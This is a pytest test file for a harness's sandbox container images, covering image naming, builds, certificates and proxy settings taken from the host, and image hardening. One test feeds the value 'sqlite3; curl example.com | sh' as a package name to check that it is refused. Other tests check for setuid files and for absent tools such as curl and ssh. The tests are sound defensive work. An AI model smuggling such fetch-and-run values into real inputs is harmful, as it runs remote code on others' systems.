"""The images on a real engine: what is in them, how they are named, and what a build takes over from this
machine.
"""

import dataclasses
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from harness.agents.kinds import KINDS, PROGRAMS
from harness.boxes.containers import Box, Engine
from harness.images.build_host import BuildHost
from harness.images.image_engine import ImageFailed
from harness.images.image_source import ImageSource
from harness.images.recipes import ROOT
from harness.images.stock import SANDBOXES, Images, suite_order
from oracle.cases.spec import Suite

pytestmark = pytest.mark.containers

TREE = Path(__file__).parents[2]
IMAGES = tuple(ImageSource(TREE).recipes)
EXEC_S = 30
SUITE = Suite(
    name="sql",
    kind="differential",
    repo="engine",
    candidate="python3 -m x",
    reference="sqlite3",
    reference_packages=("sqlite3",),
)
DANGEROUS = r"find / -xdev \( -type f -o -type d \) -perm /6000 2>/dev/null"
WRITABLE = "find / -xdev -type f -writable -not -path '/proc/*' -not -path '/sys/*' 2>/dev/null"


@pytest.fixture(scope="module")
def images(engine: Engine) -> Images:
    return Images(engine)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """The images' sources, to be changed."""
    shutil.copytree(TREE / "images", tmp_path / "images", ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "constraints.txt"):
        shutil.copy(TREE / name, tmp_path)
    for room in ("oracle", "mcp_server", "harness"):
        (tmp_path / room).mkdir()
        (tmp_path / room / "__init__.py").write_text("")
    return tmp_path


def names(tree: Path) -> dict[str, str]:
    source = ImageSource(tree)
    return {kind: source.name(kind) for kind in (ROOT, *source.recipes)}


def changed(before: dict[str, str], after: dict[str, str]) -> set[str]:
    return {kind for kind in before if before[kind] != after[kind]}


# -- names --


@pytest.mark.parametrize(
    ("file", "affected"),
    [
        ("images/base/entry.py", {"base", "scripted", "node", *PROGRAMS, "runner"}),
        ("images/node/install", {"node", *PROGRAMS, "runner"}),
        ("images/claude/package-lock.json", {"claude", "runner"}),
        ("images/scripted/Dockerfile", {"scripted", "runner"}),
        ("images/oracle-reference/Dockerfile", {"oracle-reference", "oracle-command", "runner"}),
        ("images/environment/run-setup", {"environment", "runner"}),
        ("images/rootfs/build", {ROOT, *IMAGES}),
        ("images/common/install-packages", set(IMAGES)),
        ("mcp_server/__init__.py", {"server", "runner"}),
        ("harness/__init__.py", {"runner"}),
        ("constraints.txt", {"scripted", "server", "runner"}),
    ],
)
def test_a_change_renames_the_images_that_copy_it_and_those_above(tree: Path, file: str, affected: set[str]):
    before = names(tree)
    with (tree / file).open("a") as source:
        source.write("# changed\n")
    assert changed(before, names(tree)) == affected


def test_what_is_of_this_machine_renames_nothing(tree: Path):
    before = names(tree)
    (tree / "images/common/ca/host.crt").write_text("a certificate")
    (tree / "images/base/__pycache__").mkdir()
    (tree / "images/base/__pycache__/entry.cpython-311.pyc").write_bytes(b"\0")
    os.utime(tree / "images/base/entry.py", (0, 0))
    assert names(tree) == before


def test_a_lost_executable_bit_is_a_change(tree: Path):
    before = names(tree)
    (tree / "images/common/install-packages").chmod(0o644)
    assert "base" in changed(before, names(tree))


def test_packages_name_an_image_of_their_own_whatever_their_order():
    source = ImageSource()
    assert source.name("oracle-reference", ("b1", "a1")) == source.name(
        "oracle-reference", ("a1", "b1", "a1")
    )
    assert source.name("oracle-reference", ("a1",)) != source.name("oracle-reference")


def test_a_name_that_is_no_package_is_refused_before_anything_is_built(images: Images):
    with pytest.raises(ImageFailed, match="not the name of a Debian package"):
        images.ensure("oracle-reference", ("sqlite3; curl example.com | sh",))


def test_who_needs_which_image():
    command = dataclasses.replace(SUITE, kind="command", command="make test", packages=("make",))
    assert str(suite_order(SUITE, "candidate")) == "oracle-candidate"
    assert str(suite_order(SUITE, "reference")) == "oracle-reference + sqlite3"
    assert str(suite_order(command, "candidate")) == "oracle-command + make"
    assert str(suite_order(dataclasses.replace(command, image="mine:1"), "candidate")) == "mine:1"
    assert [str(KINDS[kind].image_order(None)) for kind in ("scripted", "command", "claude")] == [
        "scripted",
        "base",
        "claude",
    ]
    assert str(KINDS["scripted"].image_order("mine:1")) == "mine:1"


# -- builds --


def test_images_that_are_there_are_found_in_silence(engine: Engine):
    Images(engine).ensure("scripted")
    said: list[str] = []
    images = Images(engine, say=said.append)
    assert [images.ensure(kind) for kind in SANDBOXES] == [images.ensure(kind) for kind in SANDBOXES]
    assert said == []


def test_a_build_that_fails_tells_its_last_lines_and_leaves_no_name(engine: Engine, tree: Path):
    (tree / "images/oracle-reference/Dockerfile").write_text(
        "ARG BASE=debian:bookworm-slim\nFROM ${BASE}\nRUN echo what went wrong; exit 7\n"
    )
    images = Images(engine, source=ImageSource(tree))
    with pytest.raises(ImageFailed, match=r"(?s)what went wrong.*non-zero code: 7"):
        images.ensure("oracle-reference")
    assert not images.is_here(suite_order(dataclasses.replace(SUITE, reference_packages=()), "reference"))


def test_a_build_is_given_the_hosts_certificates_and_declared_settings(
    engine: Engine, tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    (tmp_path / "bundle.pem").write_text("-- the host's own certificate --\n")
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "bundle.pem"))
    monkeypatch.setenv("PIP_INDEX_URL", "https://index.invalid/simple")
    (tree / "images/oracle-reference/Dockerfile").write_text(
        "ARG BASE=debian:bookworm-slim\nFROM ${BASE}\nARG PIP_INDEX_URL\nCOPY images/common/ca/ /ca/\nRUN cat /ca/host.crt; echo $PIP_INDEX_URL; exit 1\n"
    )
    with pytest.raises(ImageFailed, match=r"(?s)the host's own certificate.*index\.invalid"):
        Images(engine, source=ImageSource(tree)).ensure("oracle-reference")


# -- what is in them --


@pytest.fixture
def look(images: Images, boxed: Callable[..., Box]) -> Callable[..., str]:
    """Runs a shell command in an image as its own user; answers what it printed."""

    def run(kind: str, command: str, *, user: str = "10001:10001", packages: tuple[str, ...] = ()) -> str:
        box = boxed(image=images.ensure(kind, packages), user=user)
        ended = box.exec(("/bin/sh", "-c", command), timeout_s=EXEC_S)
        return (ended.stdout + ended.stderr).decode().strip()

    return run


@pytest.mark.parametrize("kind", SANDBOXES)
def test_no_image_has_a_file_that_lends_rights_or_one_that_its_user_can_change(
    look: Callable[..., str], kind: str
):
    assert look(kind, DANGEROUS, user="0:0") == ""
    assert look(kind, WRITABLE) == ""
    assert look(kind, "command -v gcc curl wget sudo ssh pip") == ""


def test_the_base_has_what_an_agent_needs(look: Callable[..., str]):
    said = look(
        "base",
        "id -un; id -u case; git --version; python3 -I -c 'import sys; print(sys.version_info[:2] >= (3, 11))'; ls /opt/harness",
    )
    user, case, git, python, *harness = said.splitlines()
    assert (user, case, python) == ("agent", "10002", "True")
    assert git.startswith("git version")
    assert {"entry.py", "forwarder.py", "hooks"} <= set(harness) and "Dockerfile" not in harness


def test_the_player_can_import_the_mcp_sdk_without_any_setting(look: Callable[..., str]):
    assert look("scripted", "env -i python3 -I -c 'import mcp; print(mcp.__name__)'") == "mcp"


def test_the_candidate_cannot_ask_the_reference(look: Callable[..., str]):
    assert look("oracle-candidate", "python3 -c 'import sqlite3' 2>&1 | tail -1").startswith(
        "ModuleNotFoundError"
    )
    assert (
        look(
            "oracle-candidate",
            "find / -xdev -type f -name '*sqlite3*' -not -path '/var/lib/dpkg/*' -not -path '/usr/share/doc/*' 2>/dev/null",
        )
        == ""
    )


def test_the_reference_has_the_packages_that_its_suite_names(look: Callable[..., str]):
    assert look("oracle-reference", "echo 'select 6 * 7;' | sqlite3 :memory:", packages=("sqlite3",)) == "42"


# -- what a build takes over --


def test_a_machine_without_settings_gives_a_build_nothing(tmp_path: Path):
    assert BuildHost.of({}, tmp_path) == BuildHost()


def test_indexes_and_proxies_are_taken_over_and_local_paths_are_not(tmp_path: Path):
    given = {
        "PIP_INDEX_URL": "https://index.invalid/simple", "PIP_EXTRA_INDEX_URL": "file:///srv/simple", "PIP_FIND_LINKS": "/srv/wheels",
        "HTTPS_PROXY": "http://127.0.0.1:3128", "no_proxy": "", "HOME": "/root",
    }  # fmt: skip
    assert BuildHost.of(given, tmp_path).args == {
        "PIP_INDEX_URL": "https://index.invalid/simple",
        "HTTPS_PROXY": "http://127.0.0.1:3128",
    }


def test_the_systems_bundle_counts_only_where_certificates_were_added(tmp_path: Path):
    bundle = tmp_path / "etc/ssl/certs/ca-certificates.crt"
    bundle.parent.mkdir(parents=True)
    bundle.write_bytes(b"everybody's and ours")
    assert BuildHost.of({}, tmp_path).certificates == b""
    added = tmp_path / "usr/local/share/ca-certificates/company/ours.crt"
    added.parent.mkdir(parents=True)
    added.write_bytes(b"ours")
    assert BuildHost.of({}, tmp_path).certificates == b"everybody's and ours"
    assert BuildHost.of({"SSL_CERT_FILE": str(added)}, tmp_path).certificates == b"ours"


@pytest.mark.parametrize(
    ("file", "text", "mirror"),
    [
        ("sources.list", "deb http://any.debian.org/debian bookworm main\n", None),
        (
            "sources.list",
            "deb [arch=amd64] https://mirror.invalid/debian/ bookworm main\n",
            "https://mirror.invalid/debian",
        ),
        ("sources.list", "# deb https://mirror.invalid/debian bookworm main\n", None),
        (
            "sources.list.d/debian.sources",
            "Types: deb\nURIs: https://mirror.invalid/pub/debian\n",
            "https://mirror.invalid/pub/debian",
        ),
        ("sources.list.d/other.list", "deb https://packages.invalid/apt stable main\n", None),
    ],
)
def test_the_mirror_that_apt_uses_here_is_used_in_builds(
    tmp_path: Path, file: str, text: str, mirror: str | None
):
    place = tmp_path / "etc/apt" / file
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)
    assert BuildHost.of({}, tmp_path).args.get("DEBIAN_MIRROR") == mirror
